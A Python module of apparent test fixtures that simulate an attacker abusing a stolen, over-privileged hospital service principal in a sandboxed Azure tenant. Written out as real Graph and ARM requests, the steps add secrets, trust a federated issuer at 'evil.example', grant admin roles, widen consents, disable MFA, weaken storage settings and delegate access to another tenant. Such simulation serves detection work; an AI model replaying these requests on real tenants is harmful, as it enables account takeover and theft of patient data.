"""A thief with a program's secret, who makes more of itself: each move over the services' own protocols."""

import json
from collections.abc import Mapping
from typing import Any
from uuid import uuid4

from shared.domain.actor import Actor, Credential
from shared.domain.resource import Kind
from shared.intake.azure_names import principal
from shared.sandbox.azure import clinic_names as names
from shared.sandbox.azure.cloud import Cloud
from shared.sandbox.azure.directory import ADMIN_ROLES, Application, Group, Secret, ServicePrincipal, User
from shared.sandbox.azure.graph_policies import GRAPH_APP, app_role
from shared.sandbox.azure.wire import SOURCE_IP, Request

MAY = (
    "Application.ReadWrite.All",
    "AppRoleAssignment.ReadWrite.All",
    "DelegatedPermissionGrant.ReadWrite.All",
    "GroupMember.ReadWrite.All",
    "Policy.ReadWrite.ConditionalAccess",
    "RoleManagement.ReadWrite.Directory",
    "User.ReadWrite.All",
)
"""What an over-privileged program of a hospital has in Graph."""

SCOPE = f"/subscriptions/{names.SUBSCRIPTION}"
READER = "/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7"
LOGS = "/providers/Microsoft.Authorization/roleDefinitions/73c42c96-874c-492b-b04d-ab87d138a893"
FOREVER = 2.0**33
WAITS = {"roleAssignment": "", "roleEligibility": "eligible "}
KEEPERS = "00000000-0000-4000-8000-00000000feed"
PROGRAM = Actor(
    credential=Credential.SERVICE_PRINCIPAL,
    account="",
    principal=principal(Kind.SERVICE_PRINCIPAL, names.EXPORT_ID),
    unique_id=names.EXPORT_ID,
)


class Hand:
    """Somebody's hand at Graph and ARM."""

    def __init__(self, cloud: Cloud, who: User | ServicePrincipal, address: str) -> None:
        self.cloud, self._who, self._address = cloud, who, address

    def __call__(self, method: str, url: str, content: Mapping[str, object] | None = None) -> Any:  # noqa: ANN401 - whatever JSON says
        host = "https://" + url.split("/")[2]
        token = self.cloud.entra.issue(self._who, host, 600).text
        headers = {"authorization": f"Bearer {token}", "content-type": "application/json", SOURCE_IP: self._address}
        body = json.dumps(content).encode() if content is not None else b""
        answer = self.cloud.answer(Request(method, url, headers, body))
        assert answer.status < 400, answer.body
        return answer.json() if answer.body else None

    def graph(self, method: str, path: str, content: Mapping[str, object] | None = None) -> Any:  # noqa: ANN401 - the same
        return self(method, f"https://graph.microsoft.com/v1.0/{path}", content)

    def user(self, name: str = "svc-backup") -> str:
        profile = {"password": "a-made-up-password-EXAMPLE"}
        upn = f"{name}@st-brendan.example"
        asked = {"accountEnabled": True, "displayName": name, "userPrincipalName": upn, "passwordProfile": profile}
        return str(self.graph("POST", "users", asked)["id"])

    def application(self, name: str = "backup") -> str:
        """A new application with its service principal, whose id this is."""
        made = self.graph("POST", "applications", {"displayName": name})
        return str(self.graph("POST", "servicePrincipals", {"appId": made["appId"]})["id"])

    def secret(self, application: str) -> str:
        """Another secret for an application, by its key id."""
        return str(self.graph("POST", f"applications/{application}/addPassword", {"passwordCredential": {}})["keyId"])

    def secret_of_principal(self, holder: str) -> str:
        return str(self.graph("POST", f"servicePrincipals/{holder}/addPassword", {"passwordCredential": {}})["keyId"])

    def trust(self, application: str) -> str:
        """Another issuer whose word is taken for the application's."""
        asked = {"name": "ci", "issuer": "https://evil.example", "subject": "main", "audiences": ["api://AzureADTokenExchange"]}
        return str(self.graph("POST", f"applications/{application}/federatedIdentityCredentials", asked)["id"])

    def directory_role(self, who: str) -> str:
        role = ADMIN_ROLES["User Administrator"]
        self.graph("POST", "roleManagement/directory/roleAssignments", {"principalId": who, "roleDefinitionId": role})
        return f"{role} /"

    def directory_scheduled(self, who: str, kind: str = "roleEligibility") -> str:
        """A role of the directory for the taking, or one for a time; role and scope."""
        role = ADMIN_ROLES["User Administrator"]
        asked = {"action": "adminAssign", "principalId": who, "roleDefinitionId": role, "directoryScopeId": "/"}
        ends = {"expiration": {"type": "afterDuration", "duration": "P30D"}}
        self.graph("POST", f"roleManagement/directory/{kind}ScheduleRequests", {**asked, "scheduleInfo": ends})
        return f"{WAITS[kind]}{role} /"

    def activate(self, who: str) -> None:
        """The role of the directory that waits for whoever asks."""
        role = ADMIN_ROLES["User Administrator"]
        asked = {"action": "selfActivate", "principalId": who, "roleDefinitionId": role, "directoryScopeId": "/"}
        ends = {"expiration": {"type": "afterDuration", "duration": "PT8H"}}
        self.graph("POST", "roleManagement/directory/roleAssignmentScheduleRequests", {**asked, "scheduleInfo": ends})

    def directory_role_of_group(self) -> str:
        """A role of the directory for a group that was made for such."""
        self.cloud.entra.directory.groups.setdefault(KEEPERS, Group(KEEPERS, "keepers", {names.NURSE_ID}, powerful=True))
        return self.directory_role(KEEPERS)

    def permission(self, holder: str) -> str:
        asked = {"principalId": holder, "resourceId": GRAPH_APP, "appRoleId": app_role("Mail.Read")}
        self.graph("POST", f"servicePrincipals/{holder}/appRoleAssignments", asked)
        return f"application/{GRAPH_APP}/{app_role('Mail.Read')}/"

    def consent(self, holder: str) -> str:
        asked = {"clientId": holder, "consentType": "AllPrincipals", "resourceId": GRAPH_APP, "scope": "Files.Read.All"}
        self.graph("POST", "oauth2PermissionGrants", asked)
        return f"delegated/{GRAPH_APP}/files.read.all/"

    def consent_for(self, who: str, holder: str) -> str:
        """What everybody consented to once more, for one person, of whom the log does not tell."""
        asked = {"clientId": holder, "consentType": "Principal", "principalId": who, "resourceId": GRAPH_APP, "scope": "User.Read"}
        self.graph("POST", "oauth2PermissionGrants", asked)
        return f"delegated/{GRAPH_APP}/user.read/?"

    def widen(self, holder: str) -> str:
        """One more scope in a consent that others gave; the scope."""
        grant, *_ = self.graph("GET", f"servicePrincipals/{holder}/oauth2PermissionGrants")["value"]
        self.graph("PATCH", f"oauth2PermissionGrants/{grant['id']}", {"scope": f"{grant['scope']} Mail.ReadWrite"})
        return f"delegated/{GRAPH_APP}/mail.readwrite/"

    def member(self, who: str, group: str = "heads") -> str:
        """A place in a group; the group's id."""
        groups = self.cloud.entra.directory.groups
        groups.setdefault(group, Group(group, group))
        self.graph("POST", f"groups/{group}/members/$ref", _referring(who))
        return group

    def group_role(self) -> str:
        """A role for a group."""
        self.cloud.entra.directory.groups.setdefault("nurses", Group("nurses", "nurses", {names.NURSE_ID}))
        return self.role("nurses", "Group")

    def owner(self, who: str, of: str, kind: str = "applications") -> str:
        """Somebody owns an application; the application's id."""
        self.graph("POST", f"{kind}/{of}/owners/$ref", _referring(who))
        return of

    def identity(self, name: str) -> str:
        """A machine's identity; its object id."""
        place = f"{names.SCOPE}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/{name}"
        made = self("PUT", f"https://management.azure.com{place}?api-version=2023-01-31", {"location": names.REGION})
        return str(made["properties"]["principalId"])

    def role(self, who: str, kind: str) -> str:
        """A role at the subscription; the assignment's id."""
        made = f"{SCOPE}/providers/Microsoft.Authorization/roleAssignments/{uuid4()}"
        asked = {"properties": {"roleDefinitionId": READER, "principalId": who, "principalType": kind}}
        self("PUT", f"https://management.azure.com{made}?api-version=2022-04-01", asked)
        return made.lower()

    def scheduled(self, who: str, kind: str = "roleEligibility", what: str = "AdminAssign") -> str:
        """A role for the taking, or one for a time; role and scope."""
        place = f"{SCOPE}/providers/Microsoft.Authorization/{kind}ScheduleRequests/{uuid4()}"
        ends = {"expiration": {"type": "AfterDuration", "duration": "P30D"}}
        asked = {"principalId": who, "roleDefinitionId": LOGS, "requestType": what, "scheduleInfo": ends}
        self("PUT", f"https://management.azure.com{place}?api-version=2020-10-01", {"properties": asked})
        return f"{WAITS[kind]}{LOGS.rpartition('/')[2]} {SCOPE}"

    def vault_entry(self, who: str) -> None:
        """An entry of the clinic's vault for somebody."""
        entry = {"objectId": who, "tenantId": self.cloud.entra.directory.tenant, "permissions": {"keys": ["all"]}}
        body = {"properties": {"accessPolicies": [entry]}}
        self("PUT", f"https://management.azure.com{names.VAULT_ID}/accessPolicies/add?api-version=2023-07-01", body)

    def unwrap(self) -> None:
        """Has a look at the keys of the clinic's vault."""
        self("GET", f"{names.VAULT_URL}/keys?api-version=7.4")

    def disk(self) -> str:
        """A link to a whole disk."""
        body = {"access": "Read", "durationInSeconds": 86400}
        return str(self("POST", f"https://management.azure.com{DISK}/beginGetAccess?api-version=2024-03-02", body)["accessSAS"])

    def policy(self) -> None:
        """A policy that links name, for years."""
        policy = "<AccessPolicy><Expiry>2030-01-01T00:00:00Z</Expiry><Permission>rl</Permission></AccessPolicy>"
        body = f"<SignedIdentifiers><SignedIdentifier><Id>backup</Id>{policy}</SignedIdentifier></SignedIdentifiers>"
        url = f"{names.BLOB_URL}/{names.TENANTS[0]}?restype=container&comp=acl"
        token = self.cloud.entra.issue(self._who, "https://storage.azure.com", 600).text
        headers = {"authorization": f"Bearer {token}", "x-ms-version": "2025-05-05", SOURCE_IP: self._address}
        answer = self.cloud.answer(Request("PUT", url, headers, body.encode()))
        assert answer.status < 400, answer.body

    def weaken(self) -> None:
        """Old clients may come again, and copies may go to other tenants."""
        body = {"properties": {"minimumTlsVersion": "TLS1_0", "allowCrossTenantReplication": True}}
        self("PATCH", f"https://management.azure.com{names.ACCOUNT_ID}?api-version=2024-01-01", body)

    def delegate(self) -> None:
        """Another tenant may manage the subscription, and once more the group of the store."""
        place = f"https://management.azure.com{SCOPE}/providers/Microsoft.ManagedServices"
        may = [{"principalId": "00000000-dead-4bad-8bad-000000000001", "roleDefinitionId": READER.rpartition("/")[2]}]
        body = {"properties": {"managedByTenantId": "another", "authorizations": may}}
        self("PUT", f"{place}/registrationDefinitions/d1?api-version=2022-10-01", body)
        definition = f"{SCOPE}/providers/Microsoft.ManagedServices/registrationDefinitions/d1"
        body = {"properties": {"registrationDefinitionId": definition}}
        for at in (SCOPE, names.SCOPE):
            kept = f"https://management.azure.com{at}/providers/Microsoft.ManagedServices/registrationAssignments/a1"
            self("PUT", f"{kept}?api-version=2022-10-01", body)

    def rule(self) -> None:
        """Nobody needs a second factor any more."""
        rules = self.cloud.entra.policies
        rules["mfa"] = {"id": "mfa", "displayName": "two factors", "state": "enabled", "conditions": {}, "grantControls": None}
        self.graph("PATCH", "identity/conditionalAccess/policies/mfa", {"state": "disabled"})

    def sftp(self) -> None:
        """A user of the store's own, whom no directory knows."""
        users = f"{names.ACCOUNT_ID}/localUsers/backup"
        scopes = [{"permissions": "rwdl", "service": "blob", "resourceName": names.TENANTS[0]}]
        body = {"properties": {"permissionScopes": scopes, "hasSshPassword": True}}
        self("PUT", f"https://management.azure.com{users}?api-version=2024-01-01", body)


DISK = f"{names.SCOPE}/providers/Microsoft.Compute/disks/pacs"


def scans(cloud: Cloud) -> None:
    """A disk with images on it."""
    properties = {"diskState": "Unattached", "networkAccessPolicy": "AllowAll", "uniqueId": "d1"}
    cloud.resources.put(DISK, {"location": names.REGION, "properties": properties}, "Microsoft.Compute/disks")


def _referring(who: str) -> dict[str, object]:
    return {"@odata.id": f"https://graph.microsoft.com/v1.0/directoryObjects/{who}"}


def consented(cloud: Cloud, holder: str) -> None:
    """An application that people use, with what they consented to."""
    grant = {"clientId": holder, "consentType": "AllPrincipals", "principalId": None, "resourceId": GRAPH_APP, "scope": "User.Read"}
    cloud.entra.grants[holder] = {"id": holder, **grant}


def empowered(cloud: Cloud) -> Hand:
    """The clinic's stolen program, with more rights than anybody has looked at."""
    program = cloud.entra.directory.principals[names.EXPORT_ID]
    program.permissions |= set(MAY)
    for role in ("User Access Administrator", "Contributor"):
        cloud.rbac.assign(program.id, role, SCOPE)
    return Hand(cloud, program, names.THIEF_IP)


def portal(cloud: Cloud) -> tuple[Application, ServicePrincipal]:
    """An application of others, with a secret that its owner uses."""
    application, holder = cloud.entra.directory.add_application("ward-portal")
    application.credentials.secrets.append(Secret.of("the-owners-secret-EXAMPLE", 0, FOREVER, key_id="owners"))
    return application, holder
